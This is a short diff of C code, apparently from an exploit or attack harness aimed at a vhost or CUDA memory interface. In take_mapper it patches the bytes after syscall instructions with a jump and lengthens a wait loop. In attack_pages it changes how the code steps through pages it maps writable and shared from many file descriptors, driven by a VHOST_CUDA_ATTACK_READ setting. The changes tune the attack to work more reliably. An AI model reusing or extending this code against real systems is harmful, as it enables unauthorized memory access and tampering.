@@ -330,7 +330,7 @@ static void take_mapper(void) {
         if (code[at] == 0x0f && code[at + 1] == 0x05)
             memcpy(code + at + 2, jump, sizeof jump), at += sizeof jump;
     CALL(SYS_futex, (long)desk, (long)FUTEX_WAKE, 1L);
-    for (int i = 0; i < 500 && in_mapper != 2; i++)
+    for (int i = 0; i < 5000 && in_mapper != 2; i++)
         usleep(10000);
 }
 
@@ -428,7 +428,8 @@ static void attack_pages(void) {
     long read = atol(getenv("VHOST_CUDA_ATTACK_READ")), mapped = 0, written = 0, changed = 0, more = 0;
     void *page = MAP_FAILED;
     for (long fd = 0; fd < MAX_FILE && desk; fd++) {
-        for (long at = 0; at < pages; at++) {
+        // All pages around the named ones, and some of the others: each order waits for two other processes.
+        for (long at = 0; at < pages; at += at < 64 ? 1 : 61) {
             void *writable = order(PROT_READ | PROT_WRITE, MAP_SHARED, fd, at, PAGE);
             written += writable != MAP_FAILED;
             page = writable != MAP_FAILED ? writable : page;
